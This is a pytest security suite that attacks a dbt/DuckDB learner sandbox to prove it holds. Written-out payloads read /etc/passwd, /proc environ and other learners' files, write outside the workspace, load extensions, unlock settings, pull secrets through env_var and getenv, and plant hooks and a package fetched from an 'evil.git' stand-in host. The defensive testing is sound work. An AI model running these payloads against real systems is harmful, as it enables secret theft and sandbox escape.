"""Hostile learner code against the real sandbox: one test per way out.

Every attack is a real dbt run (or query page job) through the real engine, on real DuckDB
files, with the attacker's files saved through the save policy where it allows them, or
planted straight into the workspace to play a learner who got past it (defence in depth: the
run itself must still be contained).

"Blocked" means all of:
- nothing leaks: no secret or file content in the job result (logs, errors, preview, compiled
  SQL, node messages) nor in the attacker's warehouse (read back after the run);
- nothing is written outside the attacker's workspace (the target path does not exist);
- the learner gets a clear error saying what was refused;
- the server carries on: after the attack another learner's normal job succeeds.

A hole found here is kept as a strict xfail ("HOLE: ...") until the engine is fixed; the
ones found so far (unbounded results stalling the server, an empty out-of-memory message)
are fixed and their tests pass.
"""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from decode_data.services import engine as engine_module
from decode_data.services import runs, warehouse
from decode_data.services.engine import Engine, Job, PoolConfig
from decode_data.services.engine.ownership import OUTPUT_KEPT_BYTES
from decode_data.services.engine.sandbox import JOB_ROOT
from decode_data.services.save_policy import SaveRejected
from decode_data.services.workspace import ensure_workspace, save_file
from tests.attack_helpers import (
    APP_DB_MARK,
    CMDLINE_MARK,
    ENVIRON_MARKS,
    LESSON_ID,
    MAPS_MARK,
    MOTHERDUCK_TOKEN,
    PASSWD_MARKS,
    ROOT_LISTING_MARKS,
    SERVER_SECRETS,
    TOKEN,
    assert_no_leak,
    assert_nothing_at,
    assert_refused,
    error_text,
    execute_model,
    hook_model,
    make_victim,
    plant,
    result_text,
    write_attack_lesson,
)

pytestmark = pytest.mark.attack

FILE_REFUSED = ("file system operations are disabled", "disabled by configuration", "permission denied")
LOCKED = ("configuration has been locked",)
EXTENSION_REFUSED = (
    "loading external extensions is disabled",
    "failed to download extension",
    "could not establish connection",
    "configuration has been locked",
    "disabled by configuration",
)
UNSAFE = ("unsafe",)
# A planted link to a file outside the workspace: the job's mount namespace has no such path,
# and were it there, Landlock and the job's uid would refuse it.
LINK_LEADS_NOWHERE = ("permission denied", "no such file or directory")


# --- the scene: an attack lesson, an attacker, a victim, a folder outside every workspace -----


@dataclass
class Scene:
    session: object
    lesson: object
    attacker: object
    ws: object  # the attacker's WorkspacePaths
    victim: object  # attack_helpers.Victim
    outside: Path  # nothing may ever be written here
    app_db: Path

    def save(self, rel: str, text: str) -> str:
        """A normal save through the save policy (which cannot judge SQL)."""
        return save_file(self.session, self.attacker, self.lesson, rel, text)

    def plant(self, rel: str, text: str) -> Path:
        return plant(self.ws.project, rel, text)

    def run(self, command: str = "run", **kwargs):
        return runs.run_dbt(self.session, self.attacker, self.lesson, command, **kwargs)

    def query(self, sql: str):
        if not self.ws.warehouse.exists():  # the query page needs a warehouse to open
            import duckdb

            duckdb.connect(str(self.ws.warehouse)).close()
        return warehouse.query(self.session, self.attacker, self.lesson, sql)

    def others_carry_on(self) -> None:
        """Another learner's normal dbt run still works on the same engine.

        Submitted to the engine exactly as runs.submit does once the workspace exists: the
        victim's workspace is shared by the module (see attack_helpers.Victim).
        """
        job = Job(learner_key=self.victim.key, lesson_id=LESSON_ID, command="run", select="ok")
        result = engine_module.get_engine().submit(job, self.victim.job_paths)
        assert result.ok, f"a bystander's run failed after the attack: {error_text(result)}"

    def others_can_query(self) -> None:
        """Another learner's normal query page job still works (cheaper than a dbt run)."""
        job = Job(
            learner_key=self.victim.key, lesson_id=LESSON_ID, command="query", sql="select count(*) from victim_secret"
        )
        result = engine_module.get_engine().submit(job, self.victim.job_paths, timeout_s=10)
        assert result.ok and result.preview.rows == [[1]], error_text(result)

    def no_leak(self, result, marks) -> None:
        assert_no_leak(result, marks, warehouse=self.ws.warehouse)


@pytest.fixture
def attack_lesson(tmp_path):
    from decode_data.services.lessons import load_lesson

    return load_lesson(write_attack_lesson(tmp_path / "lessons"))


@pytest.fixture
def scene(db_session, settings_env, attack_lesson, victim, tmp_path) -> Scene:
    from decode_data.services.learners import get_or_create_learner

    attacker = get_or_create_learner(db_session, "mallory")
    get_or_create_learner(db_session, victim.username)  # a name only the app database holds
    outside = tmp_path / "outside"
    outside.mkdir()
    app_db = settings_env.data_dir / "app.db"
    assert app_db.exists()
    return Scene(
        session=db_session,
        lesson=attack_lesson,
        attacker=attacker,
        ws=ensure_workspace(db_session, attacker, attack_lesson),
        victim=victim,
        outside=outside,
        app_db=app_db,
    )


RUNAWAY_TIMEOUT_S = 4.0


@pytest.fixture(scope="module")
def attack_engine(tmp_path_factory):
    """This file's own real engine (two warm, sandboxed workers), installed for every test.

    Started while server secrets sit in os.environ, to prove they never reach a job. It is
    not the session `engine` fixture because that one recycles its workers every 50 jobs and
    this file runs ~200 jobs: four rounds of worker warm-ups would double the file's runtime.
    Runaway tests pass a short per-job timeout (RUNAWAY_TIMEOUT_S) so they stay fast.
    """
    saved = {k: os.environ.get(k) for k in SERVER_SECRETS}
    os.environ.update(SERVER_SECRETS)
    try:
        pool = Engine(
            PoolConfig(
                workers=2,
                job_timeout_s=20,
                job_memory_mb=512,
                worker_max_jobs=1000,
                max_log_bytes=20_000,
                data_dir=tmp_path_factory.mktemp("attack-engine"),
                motherduck_token=MOTHERDUCK_TOKEN,
            )
        )
        deadline = time.monotonic() + 180
        while pool.idle.qsize() < 2:  # workers start in threads: keep the env until they did
            assert time.monotonic() < deadline, "the attack engine's workers did not start"
            time.sleep(0.05)
    finally:
        for key, value in saved.items():
            if value is None:
                os.environ.pop(key, None)
            else:
                os.environ[key] = value
    yield pool
    pool.close()


@pytest.fixture(autouse=True)
def _use_attack_engine(attack_engine, monkeypatch):
    monkeypatch.setattr(engine_module, "_engine", attack_engine)


@pytest.fixture(scope="module")
def victim(attack_engine, tmp_path_factory):
    """The other learner, shared by the module; its first (cold) parse happens here, once."""
    base = tmp_path_factory.mktemp("victim-data")
    victim = make_victim(base, write_attack_lesson(base / "lessons"))
    job = Job(learner_key=victim.key, lesson_id=LESSON_ID, command="run", select="ok")
    warm = attack_engine.submit(job, victim.job_paths)
    assert warm.ok, error_text(warm)
    return victim


def _job_paths(ws) -> dict:
    return {"root": ws.root, "project": ws.project, "warehouse": ws.warehouse}


def _worker_pids(pool) -> set[int]:
    """The warm workers' pids: unchanged after an attack means no worker died or was replaced."""
    return {w.pid for w in pool.workers}


# --- 1. reading server files and other learners' files ---------------------------------------


def _via(allowed: Path, target: Path) -> str:
    """`target` spelled as a path under a folder DuckDB allows, climbing out with '..'."""
    return f"{allowed}/{os.path.relpath(target, allowed)}"


def _traversal(s: Scene) -> str:
    # From the one folder DuckDB may read (the attacker's seeds) up and into the victim's root.
    return _via(s.ws.project / "seeds", s.victim.root_csv)


READS = {
    "passwd_csv": (lambda s: "select * from read_csv('/etc/passwd')", PASSWD_MARKS),
    "passwd_text": (lambda s: "select * from read_text('/etc/passwd')", PASSWD_MARKS),
    "passwd_blob": (lambda s: "select * from read_blob('/etc/passwd')", PASSWD_MARKS),
    "root_glob": (lambda s: "select * from glob('/*')", ROOT_LISTING_MARKS),
    "proc_environ": (lambda s: "select * from read_text('/proc/self/environ')", ENVIRON_MARKS),
    "proc_cmdline": (lambda s: "select * from read_text('/proc/self/cmdline')", (CMDLINE_MARK,)),
    "proc_maps": (lambda s: "select * from read_csv('/proc/self/maps')", (MAPS_MARK,)),
    "victim_csv": (lambda s: f"select * from read_csv('{s.victim.root_csv}')", None),
    "victim_json": (lambda s: f"select * from read_json('{s.victim.root_json}')", None),
    "victim_seed_parquet": (lambda s: f"select * from read_parquet('{s.victim.seed_csv}')", None),
    "victim_warehouse_blob": (lambda s: f"select * from read_blob('{s.victim.warehouse}')", None),
    "victim_glob": (lambda s: f"select * from glob('{s.victim.root}/*')", None),
    "victim_traversal": (lambda s: f"select * from read_csv('{_traversal(s)}')", None),
    "app_db_blob": (lambda s: f"select * from read_blob('{s.app_db}')", "app_db"),
    "app_db_sqlite_scan": (lambda s: f"select * from sqlite_scan('{s.app_db}', 'users')", "app_db"),
}


def _read_marks(s: Scene, marks) -> tuple[str, ...]:
    victim = (s.victim.secret, s.victim.listing_mark)
    if marks is None:
        return victim
    if marks == "app_db":
        return (APP_DB_MARK, s.victim.username) + victim
    return tuple(marks) + victim


def _read_phrases(name: str) -> tuple[str, ...]:
    # sqlite_scan lives in an extension that cannot load: DuckDB says the function is unknown.
    return ("sqlite_scan",) if name == "app_db_sqlite_scan" else FILE_REFUSED


def test_models_cannot_read_server_or_other_learners_files(scene):
    for name, (sql, _marks) in READS.items():
        scene.save(f"models/read_{name}.sql", "{{ config(materialized='table') }}\n" + sql(scene))
    # dbt-duckdb's own way to read files: a source with an external_location.
    scene.save(
        "models/sources.yml",
        f"""
version: 2
sources:
  - name: stolen
    meta: {{external_location: "read_csv('{scene.victim.root_csv}')"}}
    tables: [{{name: victim_file}}]
""",
    )
    scene.save(
        "models/read_source_external_location.sql",
        "{{ config(materialized='table') }}\nselect * from {{ source('stolen', 'victim_file') }}",
    )
    result = scene.run()
    for name, (_sql, marks) in READS.items():
        assert_refused(result, _read_phrases(name), node=f"read_{name}")
        scene.no_leak(result, _read_marks(scene, marks))
    assert_refused(result, FILE_REFUSED, node="read_source_external_location")
    assert next(n for n in result.nodes if n.name == "ok").status == "success"
    scene.others_carry_on()


def test_positive_control_leak_checks_see_allowed_reads(scene):
    """The checks above would see a leak: reading the job's OWN seeds (allowed) shows up."""
    mark = f"own-seed-{TOKEN}"
    (scene.ws.project / "seeds" / "own.csv").write_text(f"value\n{mark}\n")
    scene.save(
        "models/own_seed.sql",
        f"{{{{ config(materialized='table') }}}}\nselect * from read_csv('{JOB_ROOT}/project/seeds/own.csv')",
    )
    result = scene.run(select="own_seed")
    assert result.ok, error_text(result)
    with pytest.raises(AssertionError, match="LEAK"):
        scene.no_leak(result, [mark])  # found in the warehouse, read back after the run
    shown = scene.run("show", sql=f"select * from read_csv('{JOB_ROOT}/project/seeds/own.csv')")
    with pytest.raises(AssertionError, match="LEAK"):
        assert_no_leak(shown, [mark])  # found in the job result (the preview)


@pytest.mark.parametrize("name", list(READS))
def test_query_page_cannot_read_server_or_other_learners_files(scene, name):
    sql, marks = READS[name]
    result = scene.query(sql(scene))
    assert_refused(result, _read_phrases(name))
    scene.no_leak(result, _read_marks(scene, marks))
    scene.others_can_query()


def test_dbt_show_inline_cannot_read_files(scene):
    result = scene.run("show", sql=f"select * from read_csv('{scene.victim.root_csv}')")
    assert_refused(result, FILE_REFUSED)
    assert result.preview is None
    scene.no_leak(result, _read_marks(scene, None))
    scene.others_carry_on()


def test_run_query_in_jinja_is_allowed_but_locked_down(scene):
    scene.save(
        "models/rq_ok.sql",
        "{% if execute %}{% set v = run_query('select 41 + 1')"
        ".columns[0].values()[0] %}{% else %}{% set v = 0 %}{% endif %}\n"
        "select {{ v }} as answer",
    )
    scene.save("models/rq_read.sql", execute_model(f"select * from read_csv('{scene.victim.root_csv}')"))
    scene.save("models/rq_passwd.sql", execute_model("select * from read_text('/etc/passwd')"))
    scene.save("models/rq_unlock.sql", execute_model("SET enable_external_access = true"))
    result = scene.run()
    assert next(n for n in result.nodes if n.name == "rq_ok").status == "success"
    assert "42 as answer" in result.compiled["model.lesson.rq_ok"]
    assert_refused(result, FILE_REFUSED, node="rq_read")
    assert_refused(result, FILE_REFUSED, node="rq_passwd")
    assert_refused(result, LOCKED, node="rq_unlock")
    scene.no_leak(result, _read_marks(scene, PASSWD_MARKS))
    scene.others_carry_on()


# --- 2. writing files outside the workspace ----------------------------------------------------


def _writes(s: Scene) -> dict[str, tuple[str, Path]]:
    out, v = s.outside, s.victim
    tmp = Path(f"/tmp/decode-data-attack-{TOKEN}.csv")
    return {
        "copy_run_query": (execute_model(f"COPY (select 1 as a) TO '{out}/run_query.csv'"), out / "run_query.csv"),
        "copy_pre_hook": (hook_model(f"COPY (select 1 as a) TO '{out}/pre_hook.csv'"), out / "pre_hook.csv"),
        "copy_post_hook": (
            hook_model(f"COPY (select 1 as a) TO '{out}/post_hook.csv'", kind="post_hook"),
            out / "post_hook.csv",
        ),
        "copy_server_tmp": (hook_model(f"COPY (select 1 as a) TO '{tmp}'"), tmp),
        "copy_into_victim_root": (
            hook_model(f"COPY (select 1 as a) TO '{v.root}/planted.csv'"),
            v.root / "planted.csv",
        ),
        "copy_over_victim_model": (
            hook_model(
                f"COPY (select 'select 666 as pwned' as sql) TO '{v.project}/models/pwned.sql' (HEADER false, QUOTE '')"
            ),
            v.project / "models" / "pwned.sql",
        ),
        "copy_seeds_traversal": (
            hook_model(f"COPY (select 1 as a) TO '{_via(s.ws.project / 'seeds', out / 'trav.csv')}'"),
            out / "trav.csv",
        ),
        "copy_tmp_traversal": (
            hook_model(f"COPY (select 1 as a) TO '{_via(s.ws.root / 'tmp', out / 'trav_tmp.csv')}'"),
            out / "trav_tmp.csv",
        ),
        "external_materialization": (
            "{{ config(materialized='external', location='" + f"{out}/external.parquet" + "') }}\nselect 1 as id",
            out / "external.parquet",
        ),
        "export_database": (hook_model(f"EXPORT DATABASE '{out}/export'"), out / "export"),
        "attach_new_file": (hook_model(f"ATTACH '{out}/new.duckdb' AS newdb"), out / "new.duckdb"),
    }


def test_models_cannot_write_outside_the_workspace(scene):
    writes = _writes(scene)
    for name, (sql, _target) in writes.items():
        scene.save(f"models/write_{name}.sql", sql)
    result = scene.run()
    for name, (_sql, target) in writes.items():
        assert_refused(result, FILE_REFUSED, node=f"write_{name}")
        assert_nothing_at(target)
    assert list(scene.outside.iterdir()) == []
    scene.no_leak(result, [scene.victim.secret])
    scene.others_carry_on()


@pytest.mark.parametrize("kind", ["json-schemas", "own-macros"])
def test_models_cannot_rewrite_what_the_warm_worker_reads_from_the_install(scene, kind):
    """install_cache: every worker reads dbt's JSON schemas and its own parsed macros from files
    in the virtualenv."""
    from decode_data.services.engine.install_cache import cache_file

    kept = cache_file(kind)
    before = kept.read_bytes() if kept.exists() else None
    scene.save("models/poison_install.sql", hook_model(f"COPY (select 1 as a) TO '{kept}'"))
    result = scene.run()
    assert_refused(result, FILE_REFUSED, node="poison_install")
    assert (kept.read_bytes() if kept.exists() else None) == before
    scene.others_carry_on()


def test_models_cannot_rewrite_a_shared_reference_build(scene):
    """reference_store: every process grades against the reference's recorded relations and
    lends its seeded warehouse; a learner who rewrote either could make wrong work pass."""
    from decode_data.services.grader.builds import reference_build

    reference = reference_build(scene.lesson, "seeds")
    root = reference.paths["root"]
    kept = {path: path.read_bytes() for path in (root / "build.json", reference.seeded_file, root / "warehouse.duckdb")}
    scene.save("models/poison_record.sql", hook_model(f"COPY (select 1 as a) TO '{root / 'build.json'}'"))
    scene.save("models/poison_seeded.sql", hook_model(f"ATTACH '{reference.seeded_file}' AS lent"))
    result = scene.run()
    for node in ("poison_record", "poison_seeded"):
        assert_refused(result, FILE_REFUSED, node=node)
    assert {path: path.read_bytes() for path in kept} == kept
    scene.others_carry_on()


def test_planted_server_owned_files_are_replaced_before_the_job(scene):
    """dbt_project.yml hooks, a profiles.yml without the lockdown plugin, packages.yml."""
    hook_target = scene.outside / "on_run_end.csv"
    scene.plant(
        "dbt_project.yml",
        f"""
        name: lesson
        version: '1.0'
        config-version: 2
        profile: lesson
        on-run-start: ["COPY (select 1 as a) TO '{scene.outside}/on_run_start.csv'"]
        on-run-end: ["COPY (select 1 as a) TO '{hook_target}'"]
        flags: {{allow_spaces_in_model_names: true}}
    """,
    )
    scene.plant(
        "profiles.yml",
        f"""
        lesson:
          target: dev
          outputs:
            dev: {{type: duckdb, path: '{scene.victim.warehouse}', threads: 4}}
    """,
    )
    scene.plant("packages.yml", "packages: [{git: 'https://example.invalid/evil.git'}]\n")
    scene.save("models/steal.sql", "select * from victim_secret")
    result = scene.run()
    assert_refused(result, ("victim_secret",), node="steal")  # the server's warehouse has no such table
    assert_nothing_at(hook_target, scene.outside / "on_run_start.csv", scene.ws.project / "packages.yml")
    project_yml = (scene.ws.project / "dbt_project.yml").read_text()
    profiles_yml = (scene.ws.project / "profiles.yml").read_text()
    assert "on-run" not in project_yml and "COPY" not in project_yml
    assert "decode_data.services.engine.lockdown_plugin" in profiles_yml
    assert f"{JOB_ROOT}/warehouse.duckdb" in profiles_yml and str(scene.victim.warehouse) not in profiles_yml
    scene.no_leak(result, [scene.victim.secret])
    scene.others_carry_on()


@pytest.mark.parametrize("name", ["dbt_project.yml", "profiles.yml"])
def test_planted_server_file_symlink_is_not_followed(scene, name):
    """The server writes these files BEFORE confinement: a symlink there must not redirect it."""
    target = scene.outside / f"target-{name}"
    target.write_text("untouched\n")
    (scene.ws.project / name).unlink(missing_ok=True)
    os.symlink(target, scene.ws.project / name)
    result = scene.run(select="ok")
    assert result.ok, error_text(result)
    assert target.read_text() == "untouched\n"
    assert not (scene.ws.project / name).is_symlink()
    scene.others_carry_on()


def test_planted_dbt_package_hooks_stay_contained(scene):
    """dbt loads every project under dbt_packages/ (packages.yml or not): the server deletes
    that folder before each job, so a planted package never runs (and its hooks would meet the
    same locked-down DuckDB anyway)."""
    target = scene.outside / "package_hook.csv"
    scene.plant(
        "dbt_packages/evil/dbt_project.yml",
        f"""
        name: evil
        version: '1.0'
        config-version: 2
        on-run-end: ["COPY (select 1 as a) TO '{target}'"]
    """,
    )
    result = scene.run()
    assert result.ok, error_text(result)
    assert not (scene.ws.project / "dbt_packages").exists()
    assert_nothing_at(target)
    scene.others_carry_on()


# --- 3. ATTACH of other databases ----------------------------------------------------------------


def _attaches(s: Scene) -> dict[str, tuple[str, object]]:
    return {
        "victim_warehouse": (f"ATTACH '{s.victim.warehouse}' AS victim_db (READ_ONLY)", None),
        "victim_warehouse_rw": (f"ATTACH '{s.victim.warehouse}' AS victim_db", None),
        "app_db": (f"ATTACH '{s.app_db}' AS app_db (TYPE sqlite)", None),
        "app_db_as_duckdb": (f"ATTACH '{s.app_db}' AS app_db", None),
        "new_outside_file": (f"ATTACH '{s.outside}/created.duckdb' AS created", s.outside / "created.duckdb"),
    }


def test_models_cannot_attach_other_databases(scene):
    attaches = _attaches(scene)
    for name, (sql, _target) in attaches.items():
        body = "select * from victim_db.victim_secret" if name.startswith("victim") else "select 1 as id"
        scene.save(f"models/attach_{name}.sql", "{{ config(materialized='table') }}\n" + hook_model(sql, body=body))
    scene.save("models/attach_memory.sql", hook_model("ATTACH ':memory:' AS scratch", body=("select 1 as harmless")))
    result = scene.run()
    for name, (_sql, target) in attaches.items():
        phrases = FILE_REFUSED + ("loading external extensions is disabled",)
        assert_refused(result, phrases, node=f"attach_{name}")
        if target:
            assert_nothing_at(target)
    assert next(n for n in result.nodes if n.name == "attach_memory").status == "success"
    scene.no_leak(result, [scene.victim.secret, APP_DB_MARK, scene.victim.username])
    scene.others_carry_on()


@pytest.mark.parametrize("name", ["victim_warehouse", "app_db_as_duckdb", "new_outside_file"])
def test_query_page_cannot_attach_other_databases(scene, name):
    sql, target = _attaches(scene)[name]
    result = scene.query(sql + "; select * from victim_db.victim_secret")
    assert_refused(result, FILE_REFUSED + ("read-only",))
    if target:
        assert_nothing_at(target)
    scene.no_leak(result, [scene.victim.secret, APP_DB_MARK])
    scene.others_can_query()


def test_query_page_attach_memory_is_harmless(scene):
    """Harmless either way: today the read-only query page refuses it with a clear message."""
    result = scene.query("ATTACH ':memory:' AS scratch; select 42 as answer")
    if result.ok:
        assert result.preview.rows == [[42]]
    else:
        assert "read-only" in error_text(result), error_text(result)
    scene.others_can_query()


def test_query_process_cannot_write_and_is_confined(scene, attack_engine):
    """The query page's warehouse stays read-only, and the learner's query process (which lives
    on between queries, query_process.py) is confined like a job: its own user and network
    namespaces, no_new_privs."""
    import duckdb

    with duckdb.connect(str(scene.ws.warehouse)) as conn:
        conn.execute("create table mine as select 1 as x")
    target = scene.outside / "copied.csv"
    for sql in ("create table stolen as select 1 as x", "insert into mine values (2)", "drop table mine"):
        assert_refused(scene.query(sql), ("read-only",))
    assert scene.query("select x from mine").preview.rows == [[1]]
    assert_refused(scene.query(f"copy (select 42) to '{target}'"), FILE_REFUSED)
    assert_nothing_at(target)
    pid = attack_engine.queries.live[scene.attacker.warehouse_key]
    status = Path(f"/proc/{pid}/status").read_text()
    assert re.search(r"^NoNewPrivs:\s+1$", status, re.M), status
    for ns in ("user", "net"):
        assert os.readlink(f"/proc/{pid}/ns/{ns}") != os.readlink(f"/proc/self/ns/{ns}"), ns
    scene.others_can_query()


def test_query_process_contains_a_python_escape(scene, tmp_path):
    """Were learner SQL ever to reach Python inside a query process (a DuckDB bug), the OS layers
    that serve_queries puts on itself still hold: no other learner's warehouse or files, no app
    database, nothing written outside the workspace, no network. Its own warehouse (positive
    control) stays readable."""
    import json
    import socket

    import duckdb

    from decode_data.services.engine import query_process
    from decode_data.services.engine.jobs import JobResult, LearnerError
    from decode_data.services.engine.worker import _vm_bytes

    duckdb.connect(str(scene.ws.warehouse)).close()
    written = scene.outside / "written.txt"
    attempts = {
        "victim warehouse": lambda: Path(scene.victim.warehouse).read_bytes(),
        "victim csv": lambda: Path(scene.victim.root_csv).read_text(),
        "app database": lambda: Path(scene.app_db).read_bytes(),
        "passwd": lambda: Path("/etc/passwd").read_text(),
        "write outside": lambda: written.write_text("x"),
        "network": lambda: socket.create_connection(("127.0.0.1", 80), timeout=1),
    }

    def escape(job, warehouse, lockdown, db):
        outcome = {}
        own = {"own warehouse": lambda: Path(warehouse).read_bytes()}  # where the process sees it
        for name, attempt in {**own, **attempts}.items():
            try:
                attempt()
                outcome[name] = "allowed"
            except OSError as exc:
                outcome[name] = type(exc).__name__
        return JobResult(status="success", command=job.command, errors=[LearnerError(message=json.dumps(outcome))])

    request = {
        "job": Job(scene.attacker.warehouse_key, LESSON_ID, "query", sql="select 1").to_dict(),
        "paths": {k: str(v) for k, v in _job_paths(scene.ws).items()},
        "timeout_s": 10,
        "memory_mb": 512,
    }
    config = {"lock_dir": str(tmp_path / "locks"), "base_vm_bytes": _vm_bytes(), "worker_pid": os.getpid()}
    to_child_r, to_child_w = os.pipe()
    from_child_r, from_child_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # the query process, as query_host forks it, with Python in the attacker's hands
        try:
            os.close(to_child_w)
            os.close(from_child_r)
            query_process._answer = escape
            query_process.serve_queries(request, to_child_r, from_child_w, config)
        finally:
            os._exit(0)
    os.close(to_child_r)
    os.close(from_child_w)
    with os.fdopen(from_child_r, "rb") as answers:
        line = answers.readline()
    os.close(to_child_w)  # the query process ends when its pipe closes
    os.waitpid(pid, 0)
    outcome = json.loads(json.loads(line)["result"]["errors"][0]["message"])
    assert outcome.pop("own warehouse") == "allowed"
    assert all(result != "allowed" for result in outcome.values()), outcome
    assert_nothing_at(written)


# --- 4. extensions and 5. DuckDB settings ------------------------------------------------------


def _extensions(s: Scene) -> dict[str, str]:
    return {
        "install": "INSTALL httpfs",
        "load": "LOAD httpfs",
        "force_install": "FORCE INSTALL httpfs",
        "install_from_repo": "INSTALL httpfs FROM 'http://127.0.0.1:9/'",
        "load_file": f"LOAD '{s.outside}/evil.duckdb_extension'",
        "autoinstall": "SET autoinstall_known_extensions = true",
        "autoload": "SET autoload_known_extensions = true",
        "community": "SET allow_community_extensions = true",
        "unsigned": "SET allow_unsigned_extensions = true",
        "repository": "SET custom_extension_repository = 'http://127.0.0.1:9/'",
        "extension_dir": f"SET extension_directory = '{s.outside}'",
    }


SETTINGS = {
    "external_access": "SET enable_external_access = true",
    "external_access_global": "SET GLOBAL enable_external_access = true",
    "reset_lock": "RESET lock_configuration",
    "unlock": "SET lock_configuration = false",
    "allowed_directories": "SET allowed_directories = ['/']",
    "allowed_paths": "SET allowed_paths = ['/etc/passwd']",
    "disabled_filesystems": "SET disabled_filesystems = ''",
    "memory_limit": "SET memory_limit = '100GB'",
    "pragma_memory_limit": "PRAGMA memory_limit = '100GB'",
    "threads": "PRAGMA threads = 64",
    "max_temp": "SET max_temp_directory_size = '1TB'",
    "temp_directory": "SET temp_directory = '/tmp'",
    "max_execution_time": "SET max_execution_time = 0",
    "profiling": "PRAGMA enable_profiling = 'json'",
    "profiling_output": "PRAGMA profiling_output = '/tmp/decode-data-profile.json'",
    "logging": "CALL enable_logging(storage = 'file', storage_path = '/tmp/decode-data-logs')",
    "secret_directory": "SET secret_directory = '/tmp'",
}


def test_models_cannot_load_extensions_or_change_settings(scene):
    statements = {
        **{f"ext_{k}": v for k, v in _extensions(scene).items()},
        **{f"set_{k}": v for k, v in SETTINGS.items()},
    }
    for name, sql in statements.items():
        scene.save(f"models/{name}.sql", hook_model(sql))
    result = scene.run()
    for name in statements:
        phrases = EXTENSION_REFUSED if name.startswith("ext_") else LOCKED
        assert_refused(result, phrases, node=name)
    installed = [p for p in scene.ws.root.rglob("*") if "duckdb_extension" in p.name]
    assert installed == [], f"an extension was installed: {installed}"
    assert_nothing_at("/tmp/decode-data-profile.json", "/tmp/decode-data-logs")
    assert list(scene.outside.iterdir()) == []
    scene.others_carry_on()


@pytest.mark.parametrize("name", ["install_from_repo", "load", "load_file", "autoinstall", "repository"])
def test_query_page_cannot_load_extensions(scene, name):
    result = scene.query(_extensions(scene)[name])
    assert_refused(result, EXTENSION_REFUSED)
    scene.others_can_query()


@pytest.mark.parametrize(
    "name", ["external_access", "reset_lock", "allowed_directories", "pragma_memory_limit", "memory_limit", "logging"]
)
def test_query_page_cannot_change_settings(scene, name):
    result = scene.query(SETTINGS[name] + "; select current_setting('enable_external_access')")
    assert_refused(result, LOCKED)
    scene.others_can_query()


# --- 6. server secrets: env_var, getenv, settings, target ------------------------------------

SECRET_MODELS = {
    "secret_env": "select '{{ env_var('SECRET_KEY', 'none') }}' as secret_key, "
    "'{{ env_var('MOTHERDUCK_TOKEN', 'none') }}' as motherduck_token, "
    "'{{ env_var('DATABASE_URL', 'none') }}' as database_url",
    "secret_target": "{{ config(materialized='table') }}\n"
    "select $t${{ target }}$t$ as target, "
    "$c${{ adapter.config.credentials }}$c$ as credentials, "
    "$p${{ adapter.config }}$p$ as project_config",
    "secret_settings": "{{ config(materialized='table') }}\n"
    "select name, value::varchar as value from duckdb_settings()",
    "secret_current_setting": "{{ config(materialized='table') }}\nselect current_setting('motherduck_token') as token",
    "secret_getenv": "{{ config(materialized='table') }}\nselect getenv('SECRET_KEY') as v",
}


def test_server_secrets_never_reach_learner_code(scene, monkeypatch):
    # The secrets sat in os.environ when the workers started (attack_engine) and sit in this
    # (server) process's environment while the job runs. Settings were read before
    # (settings_env), so runs stay on the local warehouse, not MotherDuck.
    for key, value in SERVER_SECRETS.items():
        monkeypatch.setenv(key, value)
    from decode_data.settings import get_settings

    assert get_settings().motherduck_token is None
    for name, sql in SECRET_MODELS.items():
        scene.save(f"models/{name}.sql", sql)
    result = scene.run()
    for name in ("secret_env", "secret_target", "secret_settings"):
        assert next(n for n in result.nodes if n.name == name).status == "success", error_text(result)
    assert_refused(result, ("motherduck_token",), node="secret_current_setting")
    assert_refused(result, ("getenv",), node="secret_getenv")
    env = scene.query("select * from secret_env")
    assert env.ok and env.preview.rows == [["none", "none", "none"]], error_text(env)
    target = scene.query("select * from secret_target")
    assert target.ok and f"{JOB_ROOT}/warehouse.duckdb" in target.preview.rows[0][0]
    assert_no_leak(result, SERVER_SECRETS.values(), warehouse=scene.ws.warehouse)
    assert_no_leak(env, SERVER_SECRETS.values())
    assert_no_leak(target, SERVER_SECRETS.values())
    scene.others_carry_on()


def test_motherduck_token_stays_out_of_reach(scene, attack_engine):
    """The engine holds a MotherDuck token: a MotherDuck job must not expose it."""
    for name, sql in SECRET_MODELS.items():
        scene.save(f"models/{name}.sql", sql)
    job = Job(learner_key=scene.attacker.warehouse_key, lesson_id=LESSON_ID, command="run")
    md = attack_engine.submit(job, _job_paths(scene.ws), motherduck_db="dd_attack")
    assert md.status != "success"  # no network and no motherduck extension in the sandbox
    local = attack_engine.submit(job, _job_paths(scene.ws))
    query = attack_engine.submit(
        Job(
            learner_key=scene.attacker.warehouse_key,
            lesson_id=LESSON_ID,
            command="query",
            sql="select * from duckdb_settings()",
        ),
        _job_paths(scene.ws),
    )
    for result in (md, local, query):
        assert_no_leak(result, [MOTHERDUCK_TOKEN], warehouse=scene.ws.warehouse)
    scene.others_carry_on()


# --- 7. Python --------------------------------------------------------------------------------


def test_python_model_never_runs(scene):
    inside, outside = scene.ws.root / "PYTHON_RAN", scene.outside / "python_ran"
    with pytest.raises(SaveRejected, match="Python files cannot be saved"):
        scene.save("models/evil.py", "def model(dbt, session):\n    return None\n")
    scene.plant(
        "models/evil.py",
        f"""
        import pathlib
        pathlib.Path({str(inside)!r}).write_text("module level code ran")

        def model(dbt, session):
            pathlib.Path({str(inside)!r}).write_text("model body ran")
            pathlib.Path({str(outside)!r}).write_text("model body ran")
            return session.sql("select 1 as id")
    """,
    )
    result = scene.run()
    assert_refused(result, ("Python models are disabled",), node="evil")
    assert_nothing_at(inside, outside)
    scene.others_carry_on()


def test_custom_materialization_cannot_submit_python(scene):
    inside = scene.ws.root / "PYTHON_RAN"
    scene.save(
        "macros/evil_materialization.sql",
        f"""
{{% materialization evil, adapter='duckdb' %}}
  {{% call statement('main', language='python') %}}
import pathlib
pathlib.Path({str(inside)!r}).write_text("ran")
def model(dbt, session):
    pathlib.Path({str(inside)!r}).write_text("ran")
    return session.sql("select 1 as id")
  {{% endcall %}}
  {{{{ return({{'relations': []}}) }}}}
{{% endmaterialization %}}
""",
    )
    scene.save("models/uses_evil.sql", "{{ config(materialized='evil') }}\nselect 1 as id")
    scene.save(
        "models/direct_submit.sql",
        "{% if execute %}{% do adapter.submit_python_job(model, 'import os') %}{% endif %}\nselect 1 as id",
    )
    result = scene.run()
    assert_refused(result, ("Python models are disabled",), node="uses_evil")
    # Not even reachable from Jinja: "... has no attribute 'submit_python_job'".
